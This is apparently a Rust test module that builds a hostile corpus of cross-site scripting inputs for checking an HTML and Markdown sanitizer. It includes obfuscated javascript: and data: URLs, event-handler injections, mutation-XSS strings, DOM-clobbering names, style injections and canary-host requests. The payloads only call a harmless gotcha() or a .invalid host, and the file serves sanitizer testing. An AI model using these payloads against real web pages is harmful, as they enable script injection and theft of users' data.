//! A hostile corpus of our own: every way that is known to us in which a post may try to act, each
//! in every place where it can stand.
//!
//! Payloads that would work run `gotcha()` or ask for `//canary.invalid/`; what the oracle looks for
//! is wider: any node, attribute or handler outside the allow-list, any request, any dialog.

/// Addresses that run a script where an address is expected, disguised in every way that browsers
/// forgive or once forgave.
const SCHEMES: [&str; 34] = [
    "javascript:gotcha()",
    "JaVaScRiPt:gotcha()",
    " javascript:gotcha()",
    "\tjavascript:gotcha()",
    "&#1;javascript:gotcha()",
    "&#14; javascript:gotcha()",
    "&#x20;&#x0a;javascript:gotcha()",
    "java&#9;script:gotcha()",
    "java&Tab;script:gotcha()",
    "java&NewLine;script:gotcha()",
    "java&#10;scr&#13;ipt:gotcha()",
    "javascript&colon;gotcha()",
    "javascript&#58;gotcha()",
    "javascript&#x3a;gotcha()",
    "&#106;avascript:gotcha()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x67;otcha()",
    "&#0000106avascript:gotcha()",
    "\u{1}javascript:gotcha()",
    "\u{7f}javascript:gotcha()",
    "\u{a0}javascript:gotcha()",
    "\u{2028}javascript:gotcha()",
    "\u{feff}javascript:gotcha()",
    "javascript\u{200b}:gotcha()",
    "ｊavascript:gotcha()",
    "javascript://a.example/%0agotcha()",
    "javascript:/*--></title></style></textarea></script></xmp>*/gotcha()",
    "vbscript:gotcha()",
    "livescript:gotcha()",
    "mocha:gotcha()",
    "data:text/html,<script>gotcha()</script>",
    "data:text/html;base64,PHNjcmlwdD5nb3RjaGEoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='gotcha()'/>",
    "blob:https://a.example/1",
    "view-source:javascript:gotcha()",
];

/// Where an address can stand; `{}` is its place.
const PLACES: [&str; 21] = [
    "<a href=\"{}\">x</a>",
    "<a href='{}' target=_self>x</a>",
    "<a xlink:href=\"{}\">x</a>",
    "<img src=\"{}\" alt=x>",
    "<img alt=x srcset=\"{} 2x\">",
    "<img alt=x data-src=\"{}\">",
    "<picture><source srcset=\"{}\"><img alt=x></picture>",
    "<iframe src=\"{}\" title=x></iframe>",
    "<video src=\"{}\" poster=\"{}\" controls></video>",
    "<audio src=\"{}\"></audio>",
    "<object data=\"{}\">x</object>",
    "<embed src=\"{}\">",
    "<form action=\"{}\"><button formaction=\"{}\">x</button></form>",
    "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>",
    "<svg><use href=\"{}\"/><image href=\"{}\"/></svg>",
    "<math href=\"{}\"><mi xlink:href=\"{}\">x</mi></math>",
    "<blockquote cite=\"{}\">x</blockquote>",
    "<link rel=stylesheet href=\"{}\"><base href=\"{}\">",
    "<meta http-equiv=refresh content=\"0;url={}\">",
    "[x](<{}>)",
    "![x](<{}> \"y\")",
];

/// Handlers that fire by themselves or by what the harness does.
const HANDLERS: [&str; 24] = [
    "onload",
    "onerror",
    "onfocus",
    "onfocusin",
    "onblur",
    "onclick",
    "onmouseover",
    "onpointerover",
    "onpointerrawupdate",
    "ontoggle",
    "onbeforetoggle",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbegin",
    "onend",
    "onbeforematch",
    "onscroll",
    "onscrollsnapchange",
    "onwheel",
    "onpaste",
    "oncontentvisibilityautostatechange",
    "onsecuritypolicyviolation",
    "onunknown",
];

/// Elements that a handler can stand on; `{}` is its place.
const BEARERS: [&str; 9] = [
    "<p {} tabindex=1 autofocus>x</p>",
    "<img src=x {} alt=x>",
    "<details open {}><summary {}>s</summary>x</details>",
    "<svg {}><animate {} attributeName=x dur=1s/></svg>",
    "<video {}><source {}></video>",
    "<a href=https://a.example/ {} style='animation: x 1s'>x</a>",
    "<custom-element {} tabindex=0>x</custom-element>",
    "<table {}><tr {}><td {}>x</table>",
    "<input {} autofocus><select {} autofocus><option>x</select>",
];

/// What is a class of its own.
const OTHERS: [&str; 96] = [
    // Scripts.
    "<script>gotcha()</script>",
    "<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>gotcha()</scr</script>ipt>",
    "<script/x>gotcha()</script\n>",
    "<script type=module>gotcha()</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,gotcha()\"}}</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//canary.invalid/\"]}]}</script>",
    "<svg><script>gotcha()</script></svg>",
    "<svg><script href=data:text/javascript,gotcha() /></svg>",
    "<math><script>gotcha()</script></math>",
    "<!--><script>gotcha()</script>-->",
    "<!--!><img src=x onerror=gotcha()>-->",
    "<? <script>gotcha()</script> ?>",
    "<![CDATA[<script>gotcha()</script>]]>",
    "</p/><script>gotcha()</script>",
    "<plaintext><script>gotcha()</script>",
    // Mutation: what is harmless in one parse and not in the next.
    "<noscript><p title=\"</noscript><img src=x onerror=gotcha()>\">",
    "<noscript><img src=x onerror=gotcha()></noscript>",
    "<noembed><p title=\"</noembed><img src=x onerror=gotcha()>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=gotcha()>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=gotcha()>\">",
    "<style><p title=\"</style><img src=x onerror=gotcha()>\">",
    "<title><p title=\"</title><img src=x onerror=gotcha()>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=gotcha()>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=gotcha()>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=gotcha()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=gotcha()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=gotcha()>",
    "<math><mtext><table><mglyph><style><math><img src onerror=gotcha()></style></math>",
    "<svg><p><style><img src=x onerror=gotcha()></style></p></svg>",
    "<svg><foreignObject><p><img src=x onerror=gotcha()></p></foreignObject></svg>",
    "<svg><desc><img src=x onerror=gotcha()></desc><title><img src=x onerror=gotcha()></title></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=gotcha()></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><style><img src=x onerror=gotcha()></style></annotation-xml></math>",
    "<table><caption><svg><title><table><img src=x onerror=gotcha()></title></svg></caption></table>",
    "<select><template><img src=x onerror=gotcha()></template></select>",
    "<template><img src=x onerror=gotcha()></template>",
    "<template shadowrootmode=open><script>gotcha()</script></template>",
    "<div><template shadowrootmode=closed><img src=x onerror=gotcha()></template></div>",
    "<p id=\"<img src=x onerror=gotcha()>\">x</p>",
    "<a title='\"><img src=x onerror=gotcha()>'>x</a>",
    "<img alt=\"`><img src=x onerror=gotcha()>\">",
    "<p title=`><img/src=x/onerror=gotcha()>`>",
    "<b><a><b><a><table><a><img src=x onerror=gotcha()>",
    "<frameset onload=gotcha()><frame src=javascript:gotcha()></frameset>",
    "<body onload=gotcha() onhashchange=gotcha() background=//canary.invalid/b>",
    "<html onmouseover=gotcha() manifest=//canary.invalid/m>",
    "<isindex type=image src=x onerror=gotcha()>",
    "<keygen autofocus onfocus=gotcha()>",
    "<marquee onstart=gotcha()>x</marquee>",
    "<portal src=//canary.invalid/></portal><fencedframe src=//canary.invalid/></fencedframe>",
    "<img src=x onerror\n=\ngotcha()>",
    "<img/src=x/onerror=gotcha()/alt=x>",
    "<img \u{0}src=x o\u{0}nerror=gotcha()>",
    "<<img src=x onerror=gotcha()>",
    "<img src=x onerror=gotcha() ",
    "<p onclick=gotcha()",
    // Frames.
    "<iframe srcdoc='<script>parent.gotcha()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.gotcha()&gt;' sandbox=allow-scripts></iframe>",
    "<iframe src=about:blank name=gotcha onload=gotcha()></iframe>",
    "<applet code=x archive=//canary.invalid/></applet>",
    "<object data=//canary.invalid/ type=text/html><param name=src value=//canary.invalid/></object>",
    // What asks for something.
    "<link rel=prefetch href=//canary.invalid/><link rel=dns-prefetch href=//canary.invalid>",
    "<link rel=preconnect href=//canary.invalid><link rel=modulepreload href=//canary.invalid/m.js>",
    "<link rel=icon href=//canary.invalid/i><link rel=manifest href=//canary.invalid/m>",
    "<base href=//canary.invalid/><img src=x alt=x>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<meta http-equiv=set-cookie content='a=b'><meta name=referrer content=unsafe-url>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<img src=//canary.invalid/p width=1 height=1>",
    "<img srcset='//canary.invalid/1 1x, //canary.invalid/2 2x' sizes=100vw>",
    "<input type=image src=//canary.invalid/>",
    "<video poster=//canary.invalid/ autoplay><track src=//canary.invalid/ default></video>",
    "<svg><image href=//canary.invalid/ /><feImage href=//canary.invalid/ /></svg>",
    "<svg><use href=//canary.invalid/#x /></svg>",
    "<table background=//canary.invalid/><td background=//canary.invalid/>x</table>",
    "<a href=https://a.example/ ping=//canary.invalid/>x</a>",
    "<a href=https://a.example/ attributionsrc=//canary.invalid/>x</a>",
    // Styles.
    "<style>* { display: none } @import '//canary.invalid/'</style>",
    "<p style='background: url(//canary.invalid/)'>x</p>",
    "<p style='backgr\\6fund: u\\72l(//canary.invalid/)'>x</p>",
    "<p style='position: fixed; inset: 0; z-index: 2147483647; background: red'>x</p>",
    "<p style='width: expression(gotcha()); -moz-binding: url(//canary.invalid/)'>x</p>",
    "<p style='--shelfmark-ink: red; content: attr(x); animation: x 1s'>x</p>",
    "<p class='notice notice-error'>x</p><p part=body slot=header>x</p>",
    // Names that hide the page's own.
    "<img name=body alt=x><img id=cookie alt=x><form id=location><input name=href></form>",
    "<a id=shelfmark href=https://a.example/>x</a><a id=shelfmark name=src>x</a>",
    "<p id=q>x</p><p id=main>x</p><p id=__proto__>x</p><p id=constructor>x</p>",
    "<form id=f><input name=attributes><input name=parentNode><input name=nodeName></form>",
    "<form name=getElementById></form><img name=createElement alt=x>",
    "<object id=defaultView></object><embed name=documentElement>",
    // Forms.
    "<form action=//canary.invalid/><input name=q><input type=submit autofocus></form>",
    "<button popovertarget=q command=show-popover commandfor=q>x</button>",
    "<dialog open style='position:fixed'>x</dialog><div popover>x</div>",
    "<input type=password name=password autocomplete=current-password>",
    "<textarea autofocus onfocus=gotcha()>x</textarea><output for=q>x</output>",
];

/// What Markdown itself can bring.
const MARKDOWN: [&str; 20] = [
    "<javascript:gotcha()>",
    "[x]\n\n[x]: javascript:gotcha()",
    "[x]\n\n[x]: <java\nscript:gotcha()> 'y'",
    "[x](https://a.example/ \"&quot; onmouseover=gotcha() x=&quot;\")",
    "[x](https://a.example/\"onmouseover=\"gotcha\\(\\))",
    "![x](https://a.example/\"onerror=\"gotcha\\(\\))",
    "![](https://a.example/'onerror='gotcha())",
    "![\"onerror=\"gotcha()](x)",
    "[![x](javascript:gotcha())](javascript:gotcha())",
    "``` \"><img/src=x/onerror=gotcha()>\nx\n```",
    "~~~ html onload=gotcha()\n<img src=x onerror=gotcha()>\n~~~",
    "`<img src=x onerror=gotcha()>` <img src=x onerror=gotcha()>",
    "[^x]\n\n[^x]: <img src=x onerror=gotcha()>\n",
    "[^\"><img src=x onerror=gotcha()>]\n\n[^\"><img src=x onerror=gotcha()>]: y",
    "# x {#\"><img src=x onerror=gotcha()>}\n",
    "{: onclick=\"gotcha()\" style=\"position:fixed\" }\nx",
    "| <img src=x onerror=gotcha()> |\n|---|\n| [x](javascript:gotcha()) |",
    "<https://a.example/\"onclick=\"gotcha()>",
    "https://a.example/\"onclick=\"gotcha()",
    "{% include youtube.html id=\"\\\" onload=gotcha() x=\" %}{{ \"<img src=x onerror=gotcha()>\" }}",
];

/// All payloads.
pub(super) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for place in PLACES {
        all.extend(SCHEMES.iter().map(|scheme| place.replace("{}", scheme)));
    }
    for bearer in BEARERS {
        for handler in HANDLERS {
            all.push(bearer.replace("{}", &format!("{handler}=gotcha()")));
        }
    }
    all.extend(OTHERS.into_iter().chain(MARKDOWN).map(str::to_owned));
    all
}

/// Posts that hold them: those of one class, which are whole, share a post; each of the others has
/// its own, as what it leaves open would swallow its neighbours.
pub(super) fn posts() -> Vec<String> {
    let payloads = payloads();
    let whole = payloads.len() - OTHERS.len() - MARKDOWN.len();
    let (shared, alone) = payloads.split_at(whole);
    let shared = shared.chunks(12).map(|some| some.join("\n\n"));
    shared.chain(alone.iter().cloned()).collect()
}
